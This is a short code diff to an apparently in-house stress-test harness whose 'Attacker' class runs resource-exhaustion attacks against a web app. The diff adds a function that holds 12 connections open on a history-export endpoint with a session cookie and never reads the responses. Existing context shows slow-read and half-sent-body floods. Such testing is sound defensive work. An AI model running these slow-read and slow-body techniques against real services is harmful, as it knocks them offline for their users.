@@ -36,6 +36,8 @@ class Attacker:
     token: str = ""
     picture: str = ""
     """The path of a large picture that the token may fetch."""
+    session: str = ""
+    """Of an account with pictures of 200 MB."""
     closing: threading.Event = field(default_factory=threading.Event)
     going_on: list[threading.Thread] = field(default_factory=list)
 
@@ -126,6 +128,10 @@ def unread_pictures(attacker: Attacker) -> None:
     attacker.open_many(24, head("GET", attacker.picture, f"Authorization: Token {attacker.token}"), 4096)
 
 
+def unread_exports(attacker: Attacker) -> None:
+    attacker.open_many(12, head("GET", "/history/export/", f"Cookie: sessionid={attacker.session}"), 4096)
+
+
 def half_of_large_bodies(attacker: Attacker) -> None:
     attacker.open_many(150, head("POST", PREVIEW, "Content-Length: 1000000") + bytes(500_000))
 
@@ -145,6 +151,7 @@ ATTACKS = [
     silence,
     unread_answers,
     unread_pictures,
+    unread_exports,
     half_of_large_bodies,
     batches_of_strangers,
 ]
